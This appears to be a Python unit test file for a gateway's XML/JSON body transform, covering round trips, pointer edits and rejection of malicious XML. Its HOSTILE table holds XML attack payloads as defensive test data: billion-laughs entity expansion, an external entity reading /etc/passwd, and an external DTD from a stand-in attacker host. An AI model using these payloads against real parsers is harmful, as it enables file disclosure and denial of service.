"""
Tests for the pure body mapping of the transform filter
(L{gatelayer.filters.bodies}): XML to JSON and back, what has no other
form, hostile XML, and JSON pointer edits.
"""

import json
import random
from xml.etree.ElementTree import canonicalize
from xml.sax.saxutils import escape, quoteattr

from twisted.trial.unittest import SynchronousTestCase

from gatelayer.filters.bodies import (
    MAX_ATTRIBUTES, MAX_DEPTH, XML_DECLARATION, TransformError, apply_edits, is_json_type, is_xml_type,
    json_to_xml, xml_to_json)

LIMIT = 1024 * 1024

# Documents whose XML -> JSON -> XML trip keeps their meaning, each with
# the JSON it maps to.
ROUND_TRIPS = [
    (b"<r>hello</r>", "hello"),
    (b"<r/>", None),
    (b"<r></r>", None),
    (b"<r>  </r>", "  "),
    (b'<order id="7"><item>a</item><item>b</item></order>', {"@id": "7", "item": ["a", "b"]}),
    (b'<r><a>1</a><b/><a>2</a><a>3</a></r>', {"a": ["1", "2", "3"], "b": None}),
    (b'<r><price currency="EUR">10.50</price></r>', {"price": {"@currency": "EUR", "#text": "10.50"}}),
    (b'<r>\n  <a>x</a>\n  <b>y</b>\n</r>', {"a": "x", "b": "y"}),
    (b'<r><p>Hello <b>you</b></p></r>', {"p": {"#text": "Hello ", "b": "you"}}),
    (b'<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><m:get xmlns:m="urn:m">'
     b'<m:id>4</m:id></m:get></soap:Body></soap:Envelope>',
     {"@xmlns:soap": "http://www.w3.org/2003/05/soap-envelope",
      "soap:Body": {"m:get": {"@xmlns:m": "urn:m", "m:id": "4"}}}),
    (b'<r xmlns="urn:default"><a/></r>', {"@xmlns": "urn:default", "a": None}),
    (b'<r>a &amp; b &lt;c&gt; &#x1F600; <![CDATA[<not-a-tag/>]]></r>', "a & b <c> \U0001f600 <not-a-tag/>"),
    (b'<r a="line&#10;break&#9;tab &quot;q&quot; &lt;&amp;"/>', {"@a": 'line\nbreak\ttab "q" <&'}),
    (b'<r><!-- dropped --><?pi dropped?><a>x</a></r>', {"a": "x"}),
    (b'<?xml version="1.0" encoding="ISO-8859-1"?><r>caf\xe9</r>', "caf\u00e9"),
    (b'\xef\xbb\xbf<r>bom</r>', "bom"),
    ('<?xml version="1.0" encoding="UTF-16"?><r>sixteen</r>'.encode("utf-16"), "sixteen"),
    (b'<r><x:a xmlns:x="urn:x" x:k="1"><x:b/></x:a></r>', {"x:a": {"@xmlns:x": "urn:x", "@x:k": "1", "x:b": None}}),
    (b'<r><a><b><c>deep</c></b></a></r>', {"a": {"b": {"c": "deep"}}}),
    (b'<r><a k="1"/><a k="2">t</a><a/></r>', {"a": [{"@k": "1"}, {"@k": "2", "#text": "t"}, None]}),
    (b'<r>cr\r\nlf</r>', "cr\nlf"),
]


def _nested(depth):
    return b"<a>" * depth + b"x" + b"</a>" * depth


_NAMES = ["a", "b", "item", "x:y", "n-1", "\u00e9l\u00e9ment", "_u"]
_TEXTS = ["t", "a & b", "<tag>", "\"quoted\" 'single'", "caf\u00e9 \U0001f600", "1.50", "  padded  ", "x]]>y"]


def _generated(generator, name, depth):
    """
    A random element called C{name}: its text comes before its children
    (so no text is between them) and repeated names are adjacent.
    """
    attributes = "".join(f" {key}={quoteattr(generator.choice(_TEXTS))}"
                         for key in generator.sample(["k", "id", "x:z", "lang"], generator.randint(0, 3)))
    if name == "r" or generator.random() < 0.2:
        attributes += ' xmlns:x="urn:x"'
    text = escape(generator.choice(_TEXTS)) if generator.random() < 0.5 else ""
    children = []
    if depth < 3:
        for child in generator.sample(_NAMES, generator.randint(0, 3)):
            children.extend(_generated(generator, child, depth + 1) for _ in range(generator.randint(1, 3)))
    if not text and not children:
        return f"<{name}{attributes}/>"
    return f"<{name}{attributes}>{text}{''.join(children)}</{name}>"


HOSTILE = [
    ("internal DTD", b'<!DOCTYPE r [<!ELEMENT r ANY>]><r/>', "document type declaration", "line 1"),
    ("entity", b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e "boom">]>\n<r>&e;</r>',
     "document type declaration", "line 2"),
    ("billion laughs", b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
     b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>', "document type declaration", "line 1"),
    ("external entity", b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
     "document type declaration", "line 1"),
    ("external DTD", b'<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>', "document type declaration",
     "line 1"),
    ("undeclared entity", b'<r>\n  &passwd;</r>', "undefined entity", "line 2, column 3"),
    ("parameter entity", b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://x/p">%p;]><r/>', "document type declaration",
     "line 1"),
    ("too deep", _nested(MAX_DEPTH + 1), f"deeper than {MAX_DEPTH} levels", "line 1"),
    ("attribute flood", b"<r " + b" ".join(b'a%d="1"' % i for i in range(MAX_ATTRIBUTES + 1)) + b"/>",
     f"more than {MAX_ATTRIBUTES} attributes", "line 1"),
    ("invalid UTF-8", b"<r>\n\xff\xfe</r>", "not well-formed", "line 2, column 1"),
    ("overlong UTF-8", b"<r>\xc0\xaf</r>", "not well-formed", "line 1, column 4"),
    ("not XML", b"hello", "syntax error", "line 1, column 1"),
    ("JSON", b'{"a": 1}', "not well-formed (invalid token)", "line 1, column 1"),
    ("empty", b"", "no element found", "line 1, column 1"),
    ("mismatched", b"<a>\n<b></a>", "mismatched tag", "line 2, column 6"),
    ("two roots", b"<a/><b/>", "junk after document element", "line 1, column 5"),
    ("duplicate attribute", b'<a x="1" x="2"/>', "duplicate attribute", "line 1, column 10"),
    ("NUL reference", b"<a>&#0;</a>", "invalid character number", "line 1, column 4"),
    ("unknown encoding", b'<?xml version="1.0" encoding="x-nope"?><a/>', "encoding", "line 1"),
    ("multi-byte encoding", b'<?xml version="1.0" encoding="shift_jis"?><a>\x82\xa0</a>', "encoding", "line 1"),
    ("codec that is no charset", b'<?xml version="1.0" encoding="rot13"?><a/>', "encoding", "line 1"),
    ("undecodable in its charset", b'<?xml version="1.0" encoding="cp1252"?><a>\x81</a>', "", "line 1"),
    ("unclosed", b"<a><b>", "no element found", "line 1, column 7"),
]


class MediaTypeTests(SynchronousTestCase):
    """
    Which media types are JSON and which XML.
    """

    def test_types(self):
        """
        JSON and C{+json}, XML, C{text/xml} and C{+xml} are recognized;
        nothing else is.
        """
        for kind in ("application/json", "application/problem+json", "application/vnd.api+json"):
            self.assertTrue(is_json_type(kind), kind)
            self.assertFalse(is_xml_type(kind), kind)
        for kind in ("application/xml", "text/xml", "application/soap+xml", "application/atom+xml"):
            self.assertTrue(is_xml_type(kind), kind)
            self.assertFalse(is_json_type(kind), kind)
        for kind in ("text/plain", "text/json", "application/jsonx", "application/xml-dtd", "image/svg+xml",
                     "text/html", "application/octet-stream"):
            self.assertFalse(is_json_type(kind) or is_xml_type(kind), kind)


class XmlToJsonTests(SynchronousTestCase):
    """
    XML becomes JSON by the documented mapping, and comes back equal in
    meaning.
    """

    def test_mapping(self):
        """
        Each document of the table maps to its JSON.
        """
        for document, expected in ROUND_TRIPS:
            self.assertEqual(xml_to_json(document), expected, document)

    def test_round_trip(self):
        """
        XML -> JSON -> XML -> JSON gives the same JSON: the XML written
        means what the XML read did (the root's name is C{xml_root}'s).
        """
        for document, expected in ROUND_TRIPS:
            written = json_to_xml(xml_to_json(document), "r", LIMIT)
            self.assertTrue(written.startswith(XML_DECLARATION), written)
            self.assertEqual(xml_to_json(written), expected, (document, written))

    def test_generated_round_trips(self):
        """
        Generated documents (attributes, escapes, non-ASCII text, repeated
        names kept together, namespaces, empty elements) come back equal
        in meaning as the standard library's canonical XML (C14N 2.0,
        indentation stripped) sees them.
        """
        generator = random.Random(6901)
        for _ in range(200):
            document = _generated(generator, "r", 0).encode("utf-8")
            written = json_to_xml(xml_to_json(document), "r", LIMIT)
            self.assertEqual(canonicalize(written.decode("utf-8"), strip_text=True),
                             canonicalize(document.decode("utf-8"), strip_text=True), document)

    def test_written_form(self):
        """
        The XML written is compact UTF-8 with text and attribute values
        escaped; a carriage return survives as a reference.
        """
        written = json_to_xml({"@a": 'x"<&\n', "b": "<&>\r\n", "c": "caf\u00e9"}, "r", LIMIT)
        self.assertEqual(written, XML_DECLARATION + '<r a="x&quot;&lt;&amp;&#10;"><b>&lt;&amp;&gt;&#13;\n</b>'
                                                    '<c>caf\u00e9</c></r>'.encode("utf-8"))

    def test_hostile(self):
        """
        DTDs, entities (billion laughs, external), too deep or too wide
        documents, bad encodings and what is not XML are refused with the
        line and column, never an exception of another kind.
        """
        for name, document, reason, where in HOSTILE:
            with self.assertRaises(TransformError, msg=name) as raised:
                xml_to_json(document)
            self.assertIn(reason, raised.exception.detail, name)
            self.assertIn(where, raised.exception.detail, name)
            self.assertFalse(raised.exception.too_large, name)

    def test_depth_bound(self):
        """
        Exactly L{MAX_DEPTH} levels pass; a smaller bound is honoured.
        """
        value = xml_to_json(_nested(MAX_DEPTH))
        for _ in range(MAX_DEPTH - 1):
            value = value["a"]
        self.assertEqual(value, "x")
        with self.assertRaises(TransformError):
            xml_to_json(_nested(5), max_depth=4)

    def test_deep_document_no_recursion(self):
        """
        A document of a hundred thousand nested elements is refused quickly
        at the bound, without running out of stack.
        """
        with self.assertRaises(TransformError) as raised:
            xml_to_json(_nested(100000))
        self.assertIn("deeper than", raised.exception.detail)


class JsonToXmlTests(SynchronousTestCase):
    """
    JSON becomes XML; what has no XML form is refused naming its pointer.
    """

    def test_scalars(self):
        """
        Numbers, booleans and null become text and empty elements; a
        top-level scalar is the root's text.
        """
        written = json_to_xml({"n": 1.5, "i": -3, "big": 10 ** 30, "t": True, "f": False, "z": None, "e": ""},
                              "root", LIMIT)
        self.assertEqual(written, XML_DECLARATION + b"<root><n>1.5</n><i>-3</i><big>" + b"1" + b"0" * 30
                         + b"</big><t>true</t><f>false</f><z/><e></e></root>")
        self.assertEqual(json_to_xml("x", "doc", LIMIT), XML_DECLARATION + b"<doc>x</doc>")
        self.assertEqual(json_to_xml(None, "doc", LIMIT), XML_DECLARATION + b"<doc/>")
        self.assertEqual(json_to_xml(7, "doc", LIMIT), XML_DECLARATION + b"<doc>7</doc>")

    def test_documented_subset_round_trips(self):
        """
        Objects with XML-name keys, non-empty strings, null and arrays of
        two or more non-array items come back as they were.
        """
        table = [
            {"a": "x"},
            {"order": {"@id": "7", "lines": {"line": [{"sku": "A1", "qty": "2"}, {"sku": "B2", "qty": "1"}]}}},
            {"a": None, "b": ["x", "y", "z"], "c": {"#text": "t", "@k": "v"}},
            {"ns:a": {"@xmlns:ns": "urn:n", "ns:b": "1"}},
            {"unicode": "\u00e9\u4e2d\U0001f600", "spaces": "  padded  "},
        ]
        for value in table:
            self.assertEqual(xml_to_json(json_to_xml(value, "r", LIMIT)), value, value)

    def test_what_does_not_round_trip(self):
        """
        As documented: numbers and booleans come back as strings, an empty
        string as null, a one-item array as its item, an empty array not
        at all, and text of mixed content joined.
        """
        table = [
            ({"n": 1, "b": True}, {"n": "1", "b": "true"}),
            ({"s": ""}, {"s": None}),
            ({"one": ["x"]}, {"one": "x"}),
            ({"none": [], "k": "v"}, {"k": "v"}),
            ({"#text": "a", "b": "x", "@c": 5}, {"@c": "5", "#text": "a", "b": "x"}),
        ]
        for value, back in table:
            self.assertEqual(xml_to_json(json_to_xml(value, "r", LIMIT)), back, value)

    def test_no_xml_form(self):
        """
        A top-level array, an array in an array, keys that are not XML
        names, attributes that are not scalars, characters XML cannot
        carry: each is refused naming where.
        """
        table = [
            ([1, 2], "JSON array at the top"),
            ({"a": [[1]]}, "array inside an array, which has no XML form, at /a/0"),
            ({"a": {"b": [1, [2]]}}, "at /a/b/1"),
            ({"1st": "x"}, "'1st', which is not an XML element name, at /1st"),
            ({"a": {"with space": 1}}, "'with space', which is not an XML element name, at /a/with space"),
            ({"": 1}, "'', which is not an XML element name, at /"),
            ({"a:b:c": 1}, "'a:b:c', which is not an XML element name"),
            ({"xmlns": "u"}, "'xmlns', which is not an XML element name"),
            ({"xmlns:p": "u"}, "'xmlns:p', which is not an XML element name"),
            ({"#comment": "x"}, "'#comment', which is not an XML element name"),
            ({"a~/b": 1}, "at /a~0~1b"),
            ({"x": {"a/b": {"c d": 1}}}, "'a/b', which is not an XML element name, at /x/a~1b"),
            ({"x": [{"ok": 1}, {"c d": 1}]}, "'c d', which is not an XML element name, at /x/1/c d"),
            ({"@": "x"}, "'@', which is not an XML attribute name, at /@"),
            ({"@a b": "x"}, "not an XML attribute name"),
            ({"@k": {"x": 1}}, "attribute that is not a string, number or boolean at /@k"),
            ({"@k": None}, "attribute that is not a string"),
            ({"@k": [1]}, "attribute that is not a string"),
            ({"#text": {"x": 1}}, "#text that is not a string"),
            ({"a": "nul\x00"}, "U+0000) at /a"),
            ({"a": ["ok", "bell\x07"]}, "U+0007) at /a/1"),
            ({"@k": "esc\x1b"}, "U+001B) at /@k"),
            ({"a": "\ud800"}, "U+D800"),
            ({"a": "\uffff"}, "U+FFFF"),
            ("top\x00", "U+0000) at the top"),
        ]
        for value, reason in table:
            with self.assertRaises(TransformError, msg=repr(value)) as raised:
                json_to_xml(value, "r", LIMIT)
            self.assertIn(reason, raised.exception.detail, value)
            self.assertFalse(raised.exception.too_large)

    def test_output_bound(self):
        """
        A document that would grow past the limit as XML (a long key over
        many short values) is refused as too large, before it is built
        whole; one just inside passes.
        """
        amplifying = {"k" * 200: [1] * 10000}
        with self.assertRaises(TransformError) as raised:
            json_to_xml(amplifying, "r", 64 * 1024)
        self.assertTrue(raised.exception.too_large)
        self.assertIn("larger than 65536 bytes as XML", raised.exception.detail)
        exact = json_to_xml({"a": "x"}, "r", 1000)
        self.assertEqual(json_to_xml({"a": "x"}, "r", len(exact)), exact)
        with self.assertRaises(TransformError):
            json_to_xml({"a": "x"}, "r", len(exact) - 1)
        with self.assertRaises(TransformError):
            # Characters under the bound, UTF-8 bytes over it.
            json_to_xml({"a": "\u00e9" * 20}, "r", len(XML_DECLARATION) + 30)


class PointerEditTests(SynchronousTestCase):
    """
    JSON pointer edits: removes, then renames, in order; what does not
    resolve changes nothing.
    """

    def document(self):
        """
        A fresh document to edit.
        """
        return {"user": {"name": "a", "password": "p", "a/b": 1, "m~n": 2},
                "items": [{"id": 1}, {"id": 2}, {"id": 3}], "top": "t", "": "empty key"}

    def test_removes(self):
        """
        Keys, escaped keys, array items and the empty key are removed.
        """
        table = [
            ([("user", "password")], lambda d: d["user"].pop("password")),
            ([("user", "a/b")], lambda d: d["user"].pop("a/b")),
            ([("user", "m~n")], lambda d: d["user"].pop("m~n")),
            ([("items", "1")], lambda d: d["items"].pop(1)),
            ([("items", "0", "id")], lambda d: d["items"][0].pop("id")),
            ([("",)], lambda d: d.pop("")),
            ([("items", "0"), ("items", "0")], lambda d: (d["items"].pop(0), d["items"].pop(0))),
        ]
        for removes, expect in table:
            expected = self.document()
            expect(expected)
            self.assertEqual(apply_edits(self.document(), removes, ()), expected, removes)

    def test_unresolved_changes_nothing(self):
        """
        Missing keys, indexes past the end, C{-}, leading zeros and steps
        through strings or numbers change nothing.
        """
        for tokens in [("nope",), ("user", "nope", "x"), ("items", "3"), ("items", "-"), ("items", "01"),
                       ("items", "-1"), ("top", "0"), ("items", "0", "id", "x"), ("user", "name", "x")]:
            self.assertEqual(apply_edits(self.document(), [tokens], ()), self.document(), tokens)
            self.assertEqual(apply_edits(self.document(), (), [(tokens, ("moved",))]), self.document(), tokens)

    def test_renames(self):
        """
        A rename moves the value (replacing one already there, inserting
        into an array, appending with C{-}); one whose target cannot land
        leaves the value where it was.
        """
        document = apply_edits(self.document(), (), [
            (("user", "name"), ("login",)),
            (("top",), ("user", "password")),
            (("items", "0"), ("items", "-")),
            (("items", "0"), ("items", "1")),
            (("", ), ("user", "nope", "x")),
            (("user", "m~n"), ("items", "9")),
        ])
        self.assertEqual(document, {
            "user": {"password": "t", "a/b": 1, "m~n": 2}, "login": "a",
            "items": [{"id": 3}, {"id": 2}, {"id": 1}], "": "empty key"})

    def test_removes_before_renames(self):
        """
        Every remove runs before any rename.
        """
        document = apply_edits({"a": 1, "b": 2}, [("b",)], [(("a",), ("b",))])
        self.assertEqual(document, {"b": 1})

    def test_scalar_documents(self):
        """
        Edits on a document that is a string, number or null change
        nothing.
        """
        for value in ("s", 1, None, True):
            self.assertEqual(apply_edits(value, [("a",)], [(("a",), ("b",))]), value)

    def test_result_serializes(self):
        """
        An edited document is still plain JSON.
        """
        document = apply_edits(self.document(), [("user",)], [(("items",), ("list",))])
        self.assertEqual(json.loads(json.dumps(document)), document)
